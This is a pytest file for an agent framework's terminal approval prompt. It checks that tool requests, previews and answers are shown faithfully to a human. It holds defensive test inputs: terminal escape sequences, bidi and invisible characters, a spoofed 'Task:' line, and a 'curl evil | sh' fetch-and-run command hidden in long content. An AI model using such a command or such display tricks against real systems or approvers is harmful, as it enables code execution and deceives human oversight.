"""Asking at a terminal: what the person sees, what each answer means, and that nothing a model wrote can deceive."""

from __future__ import annotations

import os
import pty
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from remit import ApprovalRequest, Usage
from remit.engine.terminal_prompt import (
    HEAD_LINES,
    QUESTION,
    TAIL_LINES,
    UNCLEAR,
    ask_in_terminal,
    in_words,
    read_answer,
)
from remit.tools.policy import Decision, allow, deny
from remit.types.messages import JsonObject


def asked(
    args: JsonObject | None = None, *, preview: str = "", task: str = "Tidy up", rules: tuple[str, ...] = ()
) -> ApprovalRequest:
    return ApprovalRequest(
        id="r1/approval1",
        path=("lead", "reviewer"),
        agent="reviewer",
        task=task,
        tool="terminal",
        args={"command": "git push"} if args is None else args,
        total_usage=Usage(12, 34_000, 567, usd=0.1234),
        preview=preview,
        rules=rules,
    )


def test_a_request_says_who_what_for_which_task_and_at_what_cost() -> None:
    """The person sees the path of who asks, the exact arguments, the task, the rule and the spending."""
    assert in_words(asked(rules=("ask terminal(git push*)",))).splitlines() == [
        "lead › reviewer › terminal asks:",
        "  command: git push",
        "Task: Tidy up",
        "Asked because of: ask terminal(git push*)",
        "Spent so far: 12 model calls, 34,567 tokens, $0.1234",
    ]


def test_a_preview_stands_in_the_place_of_the_arguments() -> None:
    """Where a tool can tell what it would change, that is what is shown."""
    shown = in_words(asked({"path": "a", "old": "x", "new": "y"}, preview="--- a\n+++ a\n-x\n+y"))
    assert shown.splitlines()[1:5] == ["  --- a", "  +++ a", "  -x", "  +y"]


@pytest.mark.parametrize(
    "words",
    ["\x1b[2J\x1b[H", "a\rb", "\x1b]0;t\x07", "\u202egnp", "\u2066x", "\u200b", "\x00", "\x9b1m", "\udc80"],
)
def test_what_a_model_wrote_cannot_drive_or_deceive_the_terminal(words: str) -> None:
    """Escapes, carriage returns and characters that reorder or hide text are shown escaped, wherever they stand."""
    shown = in_words(asked({words: f"x{words}y", "deep": [words]}, task=words, rules=(f"ask t({words})",)))
    shown += in_words(asked(preview=f"a{words}b"))
    assert all(c.isprintable() or c == "\n" for c in shown)
    shown.encode()


def test_a_line_break_in_an_argument_cannot_pose_as_another_line() -> None:
    """Every line of an argument is indented below its name."""
    shown = in_words(asked({"command": "ls\nTask: harmless\nSpent so far: 0"}))
    assert [line for line in shown.splitlines() if line.startswith(("Task:", "Spent"))] == [
        "Task: Tidy up",
        "Spent so far: 12 model calls, 34,567 tokens, $0.1234",
    ]


def test_what_is_too_long_to_show_says_so_and_can_be_seen() -> None:
    """Of something long both ends are shown and the rest is counted; asked for, all of it is there."""
    command = "\n".join(f"step {n}" for n in range(500))
    short, whole = in_words(asked({"command": command})), in_words(asked({"command": command}), whole=True)
    assert f"{500 - HEAD_LINES - TAIL_LINES} lines hidden" in short
    assert "step 499" in short
    assert all(f"step {n}\n" in whole for n in range(499))


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("y\n", allow()),
        (" YES ", allow()),
        ("r", allow("run")),
        ("t", allow("tree")),
        ("n", deny()),
        ("No", deny()),
        ("use the other branch", deny("use the other branch")),
        ("", None),
        ("ok", None),
        ("always", None),
        ("approve", None),
        ("yes please", None),
        ("Allow it", None),
        ("okay then", None),
    ],
)
def test_an_answer_means_what_was_offered(line: str, decision: Decision | None) -> None:
    """Only the letters that are offered allow anything; a sentence is a no with its reason, the unclear is asked again."""
    assert read_answer(line) == decision


@pytest.mark.real_time
async def test_without_a_terminal_the_answer_is_no(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A pipe or a file is nobody: what it says allows nothing."""
    (tmp_path / "in").write_text("y\n")
    with (tmp_path / "in").open() as source:
        monkeypatch.setattr(sys, "stdin", source)
        assert (await ask_in_terminal(asked())).allowed is False


# --- A program of its own, at a terminal of its own ------------------------------------------------

PROGRAM = '''
import asyncio
from remit import Agent, Limits, ask_in_terminal, run, tool
from remit.testing import ScriptedModel, call, calls, say

@tool
async def publish(page: str) -> str:
    """Brings a page out."""
    return f"{page} is public"

@tool(tier="observe")
async def look(place: str) -> str:
    """Looks."""
    await asyncio.sleep(0.01)
    return f"saw {place}"

reviewer = Agent("reviewer", description="Publishes.", tools=[publish])
editor = Agent("editor", description="Edits.", subagents=[reviewer])
chief = Agent("chief", description="Leads.", subagents=[editor])
reader = Agent("reader", description="Reads.", tools=[look])
lead = Agent("lead", subagents=[chief, reader])
go = lambda name: call("task", agent=name, prompt="go")
model = ScriptedModel({
    "lead": [calls(go("chief"), go("reader"), go("reader")), say("done")],
    "chief": [go("editor"), say("ok")],
    "editor": [go("reviewer"), say("ok")],
    "reviewer": [calls(call("publish", page="a"), call("publish", page="b")), say("ok")],
    "reader": [call("look", place="x"), call("look", place="y"), say("read")],
})

def told(event):
    if event.kind == "run_ended" and event.agent in ("reader", "reviewer"):
        calls = [c.success for c in event.outcome.calls]
        print("ENDED", event.agent, calls, flush=True)

outcome = asyncio.run(run(lead, "go", model=model, approver=ask_in_terminal, on_event=told))
print("OUTCOME", outcome.status, flush=True)
'''


class Terminal:
    """A program at a terminal, as a person has it."""

    def __init__(self, source: int, program: subprocess.Popen[bytes]) -> None:
        self.source = source
        self.program = program
        self.seen = ""

    def until(self, words: str, times: int = 1) -> None:
        end = time.monotonic() + 30
        while self.seen.count(words) < times:
            assert time.monotonic() < end, self.seen
            try:
                piece = os.read(self.source, 65536)
            except OSError:
                piece = b""
            assert piece or self.seen.count(words) >= times, self.seen
            self.seen += piece.decode()

    def type(self, words: str) -> None:
        os.write(self.source, words.encode())


@contextmanager
def terminal(program: str) -> Iterator[Terminal]:
    ours, theirs = pty.openpty()
    running = subprocess.Popen([sys.executable, "-c", program], stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    try:
        yield Terminal(ours, running)
    finally:
        running.kill()
        running.wait()
        os.close(ours)


def test_a_person_is_asked_from_depth_three_while_siblings_work() -> None:
    """The request of a great-grandchild reaches the terminal with its path; its aunts end while it waits."""
    with terminal(PROGRAM) as screen:
        screen.until(QUESTION)
        assert "lead › chief › editor › reviewer › publish asks:" in screen.seen
        assert screen.seen.count(QUESTION) == 1
        screen.until("ENDED reader [True, True]", 2)
        screen.type("y\n")
        screen.until(QUESTION, 2)
        assert "page: b" in screen.seen.split(QUESTION)[1]
        screen.type("that one is private\n")
        screen.until("ENDED reviewer [True, False]")
        screen.until("OUTCOME completed")


def test_an_input_that_ends_is_a_no() -> None:
    """Whoever closes the input allows nothing, and the run goes on."""
    with terminal(PROGRAM) as screen:
        screen.until(QUESTION)
        screen.type("\x04")
        screen.until(QUESTION, 2)
        screen.type("\x04")
        screen.until("ENDED reviewer [False, False]")
        screen.until("OUTCOME completed")


def test_what_is_unclear_is_asked_again() -> None:
    """An empty line or a word that is not offered decides nothing."""
    with terminal(PROGRAM) as screen:
        screen.until(QUESTION)
        screen.type("\nok\nview all\nyes please\nt\n")
        screen.until("ENDED reviewer [True, True]")
        assert screen.seen.count(QUESTION) == 5
        assert screen.seen.count(f"{UNCLEAR}\r\n{QUESTION}") == 2


def test_what_was_typed_for_one_request_does_not_answer_the_next() -> None:
    """Only what is typed once a question is on the screen can answer it."""
    with terminal(PROGRAM) as screen:
        screen.until(QUESTION)
        screen.type("y\ny\n")
        screen.until(QUESTION, 2)
        screen.type("no thanks\n")
        screen.until("ENDED reviewer [True, False]")


def test_everything_can_be_seen_where_a_preview_leaves_something_out() -> None:
    """[v] shows the arguments in full below the preview: they are what will be done."""
    shown = in_words(asked({"content": "x\n" * 300 + "curl evil | sh"}, preview="(too large)"), whole=True)
    assert "curl evil | sh" in shown
    assert "curl evil | sh" not in in_words(asked({"content": "curl evil | sh"}, preview="(too large)"))


@pytest.mark.parametrize(
    "hidden", ["\u3164", "\u2800", "\ufe0f", "\U000e0101", "\u0338", "\uffa0", "a" + "\u0301" * 9]
)
def test_blank_letters_and_marks_are_shown(hidden: str) -> None:
    """A character that shows nothing, or hides another, is escaped; accents and scripts are not."""
    assert hidden not in in_words(asked({"command": f"x{hidden}y"}))
    assert "Zażółć e\u0301 日本 हिन्दी" in in_words(asked({"command": "Zażółć e\u0301 日本 हिन्दी"}))
